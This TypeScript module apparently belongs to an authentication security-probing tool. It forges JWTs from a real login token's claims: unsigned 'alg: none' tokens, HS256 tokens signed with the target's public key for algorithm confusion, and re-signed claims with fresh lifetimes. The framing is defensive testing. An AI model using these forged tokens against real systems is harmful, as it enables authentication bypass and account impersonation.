// The auth probes' forged tokens (alg none, algorithm confusion, re-signed claims of a real login), built from a real token's claims.
import { createPublicKey } from 'node:crypto';
import { SignJWT, decodeJwt, decodeProtectedHeader, type JWTPayload } from 'jose';

const b64url = (v: unknown) => Buffer.from(JSON.stringify(v)).toString('base64url');

/** The algorithm a token's header names ('HS256', 'RS256' …), or undefined when it has none. */
export function algOf(token: string): string | undefined {
  try {
    const alg = decodeProtectedHeader(token).alg;
    return typeof alg === 'string' ? alg : undefined;
  } catch {
    return undefined;
  }
}

/** The key id a token's header names, or undefined. */
export function kidOf(token: string): string | undefined {
  try {
    const kid = decodeProtectedHeader(token).kid;
    return typeof kid === 'string' ? kid : undefined;
  } catch {
    return undefined;
  }
}

/**
 * The verification key of a token, as SPKI PEM text, from a JWKS (RFC 7517): the key its kid names, else the only
 * signing key there is. Or why there is none, for the evidence (the alg-confusion probe then says it did not run).
 */
export function publicKeyFromJwks(jwks: unknown, kid: string | undefined): { pem: string } | { why: string } {
  const keys = (jwks as { keys?: unknown })?.keys;
  if (!Array.isArray(keys)) return { why: 'the JWKS has no "keys" array' };
  const signing = keys.filter((k): k is Record<string, unknown> => !!k && typeof k === 'object' && (k as any).use !== 'enc' && typeof (k as any).kty === 'string' && (k as any).kty !== 'oct');
  const key = kid !== undefined ? signing.find((k) => k.kid === kid) : signing.length === 1 ? signing[0] : undefined;
  if (!key) return { why: kid !== undefined ? `the JWKS has no public key with the login token's kid "${kid}"` : `the login token names no kid and the JWKS has ${signing.length} public keys` };
  try {
    return { pem: createPublicKey({ key: key as any, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString() };
  } catch (err: any) {
    return { why: `the JWKS key ${kid ?? ''} is not a usable public key: ${err?.message ?? err}` };
  }
}

/** RS*, PS*, ES*, EdDSA: the target verifies with a public key, so an HS256 token keyed with that key is a real probe. */
export function isAsymmetric(alg: string | undefined): boolean {
  return !!alg && /^(RS|PS|ES)\d+$|^EdDSA$/.test(alg);
}

/** An unsigned token (`alg: none`, empty signature) carrying the claims: a verifier that honours the header accepts it. */
export function unsignedToken(claims: JWTPayload): string {
  return `${b64url({ alg: 'none', typ: 'JWT' })}.${b64url(claims)}.`;
}

/** HS256 over the claims with `key` (a secret, or for algorithm confusion the verification key's PEM text) as the HMAC secret. */
export function hs256(claims: JWTPayload, key: string): Promise<string> {
  return new SignJWT({ ...claims }).setProtectedHeader({ alg: 'HS256', typ: 'JWT' }).sign(new TextEncoder().encode(key));
}

/** A real login's claims with a fresh id and the given lifetime (seconds since the epoch). */
export function reclaim(token: string, iat: number, exp: number, jti = `flowgate-probe-${iat}-${Math.random().toString(36).slice(2, 10)}`): JWTPayload {
  return { ...decodeJwt(token), iat, exp, jti };
}

/** Whether the alg-confusion probe means anything for this target, and why not when it does not. */
export function algConfusionApplies(alg: string | undefined, publicKey: string | undefined, jwksWhy?: string): { applies: true } | { applies: false; why: string } {
  if (!isAsymmetric(alg)) return { applies: false, why: `not meaningful for ${alg ?? 'unknown-algorithm'} (symmetric) targets: there is no public verification key to confuse with an HMAC secret` };
  if (!publicKey) return { applies: false, why: `the target signs ${alg} but FLOWGATE_JWT_PUBLIC_KEY_FILE is not set and no key came from its JWKS${jwksWhy ? ` (${jwksWhy})` : ''}: algorithm confusion was not probed` };
  return { applies: true };
}
